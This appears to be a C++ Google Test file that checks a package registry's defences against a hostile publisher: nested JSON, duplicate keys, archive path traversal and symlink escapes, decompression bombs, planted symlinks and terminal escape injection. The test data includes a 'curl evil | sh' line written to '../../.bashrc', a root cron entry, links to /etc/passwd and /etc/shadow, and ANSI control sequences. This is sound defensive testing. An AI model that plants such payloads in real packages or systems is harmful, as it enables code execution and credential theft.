// Attacks on the registry by a hostile publisher (issue 11, items 3, 7, 8, 9, 16 and 22): real
// registry directories, real archives written with libarchive, real symlinks, and the mcpc
// binary where the attack is on the command line. After each attack the registry must still
// publish and hand out a good package. Uses only the API the registry had before these fixes,
// so every test here also runs (and fails) against the unfixed code.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <chrono>
#include <csignal>
#include <iostream>

#include "mcpc/registry/names.h"
#include "mcpc/registry/registry.h"
#include "registry_test_support.h"

namespace mcpc::registry {
namespace {

using namespace mcpc::registry::testing;

class RegistryHostile : public ::testing::Test {
 protected:
  TempDir dir_{"hostile"};
  fs::path root_ = dir_ / "registry";
  int packages_ = 0;

  fs::path fresh_dir() { return dir_ / ("pkg" + std::to_string(packages_++)); }

  ProcessResult mcpc(std::vector<std::string> args, std::vector<std::string> env = {}) {
    args.insert(args.begin(), {MCPC_BIN, "registry", "--root", root_.string()});
    return run_process(args, env);
  }

  // The refusal publish gives for `manifest` (through the C++ API), or "(published)".
  std::string refusal(const fs::path& manifest) {
    Registry reg = Registry::open(root_);
    try {
      reg.publish(manifest);
    } catch (const RegistryError& e) {
      return e.what();
    }
    return "(published)";
  }

  std::size_t temp_files() {
    std::size_t n = 0;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(root_ / "tmp", ec)) n += !e.path().empty();
    return n;
  }

  // The registry still works: a good package publishes, can be fetched, and verify is clean.
  void expect_still_works(const std::string& after) {
    PackageSpec good;
    good.name = "good-after-" + std::to_string(packages_);
    fs::path m = write_package(fresh_dir(), good);
    ProcessResult r = mcpc({"publish", m.string()});
    ASSERT_EQ(r.code(), 0) << after << ": " << r.err;
    fs::path out = fresh_dir();
    r = mcpc({"get", good.name, "-o", out.string()});
    ASSERT_EQ(r.code(), 0) << after << ": " << r.err;
    EXPECT_EQ(read_file(out / (good.name + "-1.0.0.tgz")), read_file(m.parent_path() / (good.name + "-1.0.0.tgz")));
    r = mcpc({"verify", "--json"});
    EXPECT_EQ(r.code(), 0) << after << ": " << r.out;
    EXPECT_EQ(json::parse(r.out)["clean"], true) << after << ": " << r.out;
    EXPECT_EQ(temp_files(), 0u) << after;
  }
};

std::string nested_arrays(std::size_t depth) { return std::string(depth, '[') + std::string(depth, ']'); }

// ---- item 3: nesting that made serialisation recurse until the stack ran out ----------------

TEST_F(RegistryHostile, ManifestNested100000DeepIsRefusedNotACrash) {
  fs::path d = fresh_dir();
  write_package(d, {});
  json m = json::parse(read_file(d / "manifest.json"));
  std::string text = m.dump();
  text.insert(text.size() - 1, R"(,"deep":)" + nested_arrays(100'000));  // 200 KB, far under the size cap
  write_file(d / "manifest.json", text);
  ProcessResult r = mcpc({"publish", (d / "manifest.json").string()});
  EXPECT_TRUE(r.exited()) << "mcpc died: status " << r.status;
  EXPECT_EQ(r.code(), 1) << r.err;
  EXPECT_NE(r.err.find("nested deeper than"), std::string::npos) << r.err;
  EXPECT_EQ(temp_files(), 0u);
  expect_still_works("a 100,000-deep manifest");
}

TEST_F(RegistryHostile, ServerJsonNested100000DeepIsRefusedAndLeavesNoTempFiles) {
  fs::path d = fresh_dir();
  write_package(d, {});
  write_file(d / "server.json", R"({"name":"io.github.test/inventory-mcp","x":)" + nested_arrays(100'000) + "}");
  json m = json::parse(read_file(d / "manifest.json"));
  m["artifacts"][1] = artifact_entry(d, "server.json", "server.json", "application/json");
  write_file(d / "manifest.json", m.dump());
  // The tarball is staged before server.json is read: its temp file must go too.
  ProcessResult r = mcpc({"publish", (d / "manifest.json").string()});
  EXPECT_TRUE(r.exited()) << "mcpc died: status " << r.status;
  EXPECT_EQ(r.code(), 1) << r.err;
  EXPECT_NE(r.err.find("nested deeper than"), std::string::npos) << r.err;
  EXPECT_EQ(temp_files(), 0u);
  expect_still_works("a 100,000-deep server.json");
}

TEST_F(RegistryHostile, TempFilesOfAPublishThatDiedAreRemovedByTheNextPublish) {
  PackageSpec p;
  fs::path m = write_package(fresh_dir(), p);
  ProcessResult killed = mcpc({"publish", m.string()}, {"MCPC_REGISTRY_CRASH_AT=blob-temp-written"});
  ASSERT_TRUE(killed.killed_by(SIGKILL)) << killed.status;
  ASSERT_EQ(temp_files(), 1u);  // what the dead publish left
  expect_still_works("a publish killed with its temp file written");
}

// ---- item 22: a key given twice, and `latest` in another case ------------------------------

TEST_F(RegistryHostile, DuplicateKeysAreRefusedEverywhere) {
  // Top level: which name was meant?
  fs::path d = fresh_dir();
  write_package(d, {});
  std::string text = read_file(d / "manifest.json");
  text.insert(1, R"("name":"someone-else",)");
  write_file(d / "manifest.json", text);
  std::string why = refusal(d / "manifest.json");
  EXPECT_NE(why.find("\"name\" twice"), std::string::npos) << why;
  // Inside an artifact: two digests for one file.
  d = fresh_dir();
  write_package(d, {});
  text = read_file(d / "manifest.json");
  std::size_t at = text.find("\"sha256\"");
  ASSERT_NE(at, std::string::npos);
  text.insert(at, "\"sha256\": \"" + std::string(64, 'a') + "\", ");
  write_file(d / "manifest.json", text);
  why = refusal(d / "manifest.json");
  EXPECT_NE(why.find("\"sha256\" twice"), std::string::npos) << why;
  // In the server.json artifact.
  d = fresh_dir();
  write_package(d, {});
  write_file(d / "server.json", R"({"name":"io.github.test/inventory-mcp","name":"io.github.evil/other"})");
  json m = json::parse(read_file(d / "manifest.json"));
  m["artifacts"][1] = artifact_entry(d, "server.json", "server.json", "application/json");
  write_file(d / "manifest.json", m.dump());
  why = refusal(d / "manifest.json");
  EXPECT_NE(why.find("twice"), std::string::npos) << why;
  // The same key in two different objects is fine.
  d = fresh_dir();
  write_package(d, {});
  EXPECT_EQ(refusal(d / "manifest.json"), "(published)");
  EXPECT_EQ(temp_files(), 0u);
  expect_still_works("manifests with duplicate keys");
}

TEST_F(RegistryHostile, LatestIsReservedInAnyCase) {
  for (const char* v : {"latest", "LATEST", "Latest", "lAtEsT"}) {
    PackageSpec p;
    p.version = v;
    std::string why = refusal(write_package(fresh_dir(), p));
    EXPECT_NE(why.find("reserved"), std::string::npos) << v << ": " << why;
  }
  EXPECT_FALSE(version_problem("latest-1"));  // only the whole word is the alias
  PackageSpec p;
  Registry reg = Registry::open(root_);
  reg.publish(write_package(fresh_dir(), p));
  for (const char* v : {"latest", "LATEST", "Latest"}) {
    std::optional<VersionRecord> got = reg.get("inventory-mcp", std::string_view(v));
    ASSERT_TRUE(got) << v;
    EXPECT_EQ(got->version, "1.0.0") << v;
  }
}

// ---- item 7: the archive check goes by content, not by what the manifest declares ---------

TEST_F(RegistryHostile, ArchivesDeclaredAsPlainFilesAreCheckedByContent) {
  const std::vector<Member> escape_dotdot = {{"bin/server", "fine"}, {"../../.bashrc", "curl evil | sh"}};
  const std::vector<Member> escape_symlink = {{"etc-passwd", "", Member::symlink, "/etc/passwd"},
                                              {"bin/server", "fine"}};
  const std::vector<Member> escape_hardlink = {{"bin/server", "fine"}, {"shadow", "", Member::hardlink, "/etc/shadow"}};
  const std::vector<Member> absolute = {{"/etc/cron.d/evil", "* * * * * root sh"}};
  struct Case {
    std::string what, format, filter;
    std::vector<Member> members;
  };
  std::vector<Case> cases = {
      {"tar.gz with ../", "pax", "gzip", escape_dotdot},
      {"plain ustar with a symlink to /etc/passwd", "ustar", "", escape_symlink},
      {"tar.gz with a hard link to /etc/shadow", "pax", "gzip", escape_hardlink},
      {"V7 tar (no ustar magic) with ../", "v7tar", "", escape_dotdot},
      {"zip with ../", "zip", "", escape_dotdot},
      {"zip with an absolute path", "zip", "", absolute},
      {"tar.bz2 with an absolute path", "pax", "bzip2", absolute},
      {"tar.xz with ../", "pax", "xz", escape_dotdot},
      {"tar.zst with a symlink out", "pax", "zstd", escape_symlink},
      {"cpio with ../", "cpio", "", escape_dotdot},
      {"zip inside gzip with ../", "zip", "gzip", escape_dotdot},
  };
  int tried = 0;
  for (const Case& c : cases) {
    fs::path d = fresh_dir();
    if (!write_archive(d / "payload.bin", c.members, c.format, c.filter)) {
      std::cerr << "(this libarchive cannot write " << c.what << ": skipped)\n";
      continue;
    }
    ++tried;
    std::string why = refusal(write_manifest_for(d, "evil", "1.0.0", {"payload.bin"}));
    EXPECT_NE(why.find("refusing archive"), std::string::npos) << c.what << ": " << why;
  }
  EXPECT_GE(tried, 8);
  // A ZIP behind other bytes (a self-extracting archive): unzip still finds it.
  fs::path d = fresh_dir();
  ASSERT_TRUE(write_archive(d / "inner.zip", escape_dotdot, "zip"));
  write_file(d / "installer.bin", std::string("\x7f"
                                              "ELF",
                                              4) +
                                      std::string(5000, 'x') + read_file(d / "inner.zip"));
  std::string why = refusal(write_manifest_for(d, "evil", "1.0.0", {"installer.bin"}));
  EXPECT_NE(why.find("archive"), std::string::npos) << why;
  // A ZIP whose central directory (read by unzip) and local headers (read by streaming
  // unpackers) name different files: either list may carry the escape.
  for (bool evil_in_directory : {true, false}) {
    d = fresh_dir();
    ASSERT_TRUE(write_archive(d / "both.zip", {{"ok.txt", "fine"}, {"../../evil.txt", "bad"}}, "zip"));
    std::string bytes = read_file(d / "both.zip");
    std::size_t at = evil_in_directory ? bytes.find("../../evil.txt") : bytes.rfind("../../evil.txt");
    ASSERT_NE(at, std::string::npos);
    bytes.replace(at, 14, "harmless-0.txt");
    write_file(d / "split.bin", bytes);
    why = refusal(write_manifest_for(d, "evil", "1.0.0", {"split.bin"}));
    EXPECT_NE(why.find("refusing archive"), std::string::npos) << evil_in_directory << ": " << why;
  }
  // The declaration only adds checks: a declared "tarball" that is not an archive is refused...
  d = fresh_dir();
  write_file(d / "server.tgz", "#!/bin/sh\necho not an archive\n");
  why = refusal(write_manifest_for(d, "evil", "1.0.0", {"server.tgz"}, "tarball", "application/gzip"));
  EXPECT_NE(why.find("archive"), std::string::npos) << why;
  // ...while bytes that are no archive, declared as a file, are fine, and so is a clean tarball.
  d = fresh_dir();
  write_file(d / "server", std::string("\x7f"
                                       "ELF\x02\x01\x01",
                                       7) +
                               std::string(4096, '\x01'));
  ASSERT_TRUE(
      write_archive(d / "data.bin", {{"bin/server", "fine"}, {"lib", "bin", Member::symlink, "bin"}}, "pax", "gzip"));
  EXPECT_EQ(refusal(write_manifest_for(d, "honest", "1.0.0", {"server", "data.bin"})), "(published)");
  EXPECT_EQ(temp_files(), 0u);
  expect_still_works("archives declared as plain files");
}

// ---- item 16: decompression bombs -----------------------------------------------------------

TEST_F(RegistryHostile, NestedCompressionIsRefused) {
  // gzip(gzip(gzip(tar))): the shape of the 7.7 KB archive that unpacked to 4 GiB.
  fs::path d = fresh_dir();
  ASSERT_TRUE(write_archive(d / "layer0.tar", {{"zeros", "", Member::file, "", 0644, 4u << 20}}, "pax"));
  compress_file(d / "layer0.tar", d / "layer1");
  compress_file(d / "layer1", d / "layer2");
  compress_file(d / "layer2", d / "bomb.tgz");
  auto start = std::chrono::steady_clock::now();
  std::string why = refusal(write_manifest_for(d, "bomb", "1.0.0", {"bomb.tgz"}, "tarball", "application/gzip"));
  EXPECT_NE(why.find("compressed 3 times over"), std::string::npos) << why;
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
  EXPECT_EQ(temp_files(), 0u);
  expect_still_works("a nested gzip");
}

TEST_F(RegistryHostile, ArchivesThatUnpackFarBeyondTheirSizeAreRefusedEarly) {
  // 256 MiB of zeros pack into about 250 KB: a ratio near 1000, refused once 64 MiB are out.
  for (const char* format : {"pax", "zip"}) {
    fs::path d = fresh_dir();
    ASSERT_TRUE(write_archive(d / "big.bin", {{"zeros", "", Member::file, "", 0644, 256u << 20}}, format,
                              std::string(format) == "pax" ? "gzip" : ""));
    auto start = std::chrono::steady_clock::now();
    std::string why = refusal(write_manifest_for(d, "bomb", "1.0.0", {"big.bin"}));
    EXPECT_NE(why.find("times its"), std::string::npos) << format << ": " << why;
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(20)) << format;
  }
  EXPECT_EQ(temp_files(), 0u);
  expect_still_works("archives with a high unpack ratio");
}

// ---- item 8: `get --output` and symlinks planted in the output directory -------------------

TEST_F(RegistryHostile, GetOutputNeverWritesThroughAPlantedSymlink) {
  fs::path m = write_package(fresh_dir(), {});
  ASSERT_EQ(mcpc({"publish", m.string()}).code(), 0);
  fs::path out = dir_ / "shared-out", victim = dir_ / "victim";
  fs::create_directories(out);
  write_file(victim / "bashrc", "original\n");
  write_file(victim / "profile", "original\n");
  // The temp name the old code used, and the final name, both pointing at the victim's files.
  fs::create_symlink(victim / "bashrc", out / "inventory-mcp-1.0.0.tgz.mcpc-tmp");
  fs::create_symlink(victim / "profile", out / "server.json");
  ProcessResult r = mcpc({"get", "inventory-mcp", "-o", out.string()});
  EXPECT_EQ(r.code(), 0) << r.err;
  EXPECT_EQ(read_file(victim / "bashrc"), "original\n");
  EXPECT_EQ(read_file(victim / "profile"), "original\n");
  EXPECT_FALSE(fs::is_symlink(out / "server.json"));
  EXPECT_EQ(read_file(out / "inventory-mcp-1.0.0.tgz"), read_file(m.parent_path() / "inventory-mcp-1.0.0.tgz"));
  EXPECT_EQ(read_file(out / "server.json"), read_file(m.parent_path() / "server.json"));
  EXPECT_TRUE(fs::is_symlink(out / "inventory-mcp-1.0.0.tgz.mcpc-tmp"));  // left alone, not used
  for (const auto& e : fs::directory_iterator(out)) {
    EXPECT_NE(e.path().filename().string().rfind(".mcpc-", 0), 0u) << "temp file left: " << e.path();
  }
}

TEST_F(RegistryHostile, GetOutputNeverFollowsASymlinkedSubdirectory) {
  fs::path d = fresh_dir();
  write_file(d / "clients" / "claude.json", R"({"mcpServers":{}})");
  write_file(d / "server.json", R"({"name":"io.github.test/split"})");
  ASSERT_EQ(mcpc({"publish", write_manifest_for(d, "split", "1.0.0", {"server.json", "clients/claude.json"},
                                                "client-config", "application/json")
                                 .string()})
                .code(),
            0);
  fs::path out = dir_ / "shared-out", elsewhere = dir_ / "elsewhere";
  fs::create_directories(out);
  fs::create_directories(elsewhere);
  fs::create_directory_symlink(elsewhere, out / "clients");
  ProcessResult r = mcpc({"get", "split", "-o", out.string()});
  EXPECT_EQ(r.code(), 1) << r.out;
  EXPECT_NE(r.err.find("symbolic link"), std::string::npos) << r.err;
  EXPECT_TRUE(fs::is_empty(elsewhere));
}

// ---- item 9: published text reaching the user's terminal -----------------------------------

TEST_F(RegistryHostile, TextOutputNeverCarriesTerminalControls) {
  const std::string title = "Weather\x1b]0;owned\x07 \x1b[2J";
  const std::string description =
      "Forecasts\rFAKE LINE \x1b[31mred \xc2\x9b"
      "31m c1 \xe2\x80\xae"
      "desrever \x7f";
  PackageSpec p;
  p.name = "weather-mcp";
  p.description = description;
  p.tools = {{"get_forecast", "Forecast \x1b[1A for a city"}};
  fs::path m = write_package(fresh_dir(), p);
  json j = json::parse(read_file(m));
  j["title"] = title;
  write_file(m, j.dump());
  ASSERT_EQ(mcpc({"publish", m.string()}).code(), 0);

  auto expect_clean = [](const std::string& out, const std::string& what) {
    for (char c : out) {
      auto u = static_cast<unsigned char>(c);
      EXPECT_FALSE((u < 0x20 && c != '\n') || u == 0x7f) << what << ": raw control byte " << int(u) << " in:\n" << out;
    }
    EXPECT_EQ(out.find("\xc2\x9b"), std::string::npos) << what << ": raw C1 CSI";
    EXPECT_EQ(out.find("\xe2\x80\xae"), std::string::npos) << what << ": raw right-to-left override";
    EXPECT_EQ(out.find('\xff'), std::string::npos) << what << ": invalid UTF-8 byte";
  };
  ProcessResult r = mcpc({"get", "weather-mcp"});
  EXPECT_EQ(r.code(), 0) << r.err;
  expect_clean(r.out, "get");
  EXPECT_NE(r.out.find("Weather\\x1b]0;owned\\x07"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("Forecasts\\rFAKE LINE"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("\\u009b31m"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("\\u202edesrever"), std::string::npos) << r.out;
  r = mcpc({"list"});
  expect_clean(r.out, "list");
  EXPECT_NE(r.out.find("weather-mcp"), std::string::npos) << r.out;
  r = mcpc({"search", "forecasts"});
  expect_clean(r.out, "search");
  EXPECT_NE(r.out.find("weather-mcp"), std::string::npos) << r.out;
  // JSON output stays JSON, and gives back exactly what was published.
  r = mcpc({"get", "weather-mcp", "--json"});
  expect_clean(r.out, "get --json");
  EXPECT_EQ(json::parse(r.out)["title"], title);
  r = mcpc({"list", "--json"});
  expect_clean(r.out, "list --json");
  EXPECT_EQ(json::parse(r.out)["servers"][0]["title"], title);
  // Error messages quote what they refuse: escaped too.
  fs::path bad = fresh_dir() / "manifest.json";
  write_file(bad, "{\"name\": \"x\", \"version\": \"1.0.0\", \xc2\x9b\x1b[2J}");
  r = mcpc({"publish", bad.string()});
  EXPECT_EQ(r.code(), 1);
  expect_clean(r.err, "publish error");
}

}  // namespace
}  // namespace mcpc::registry
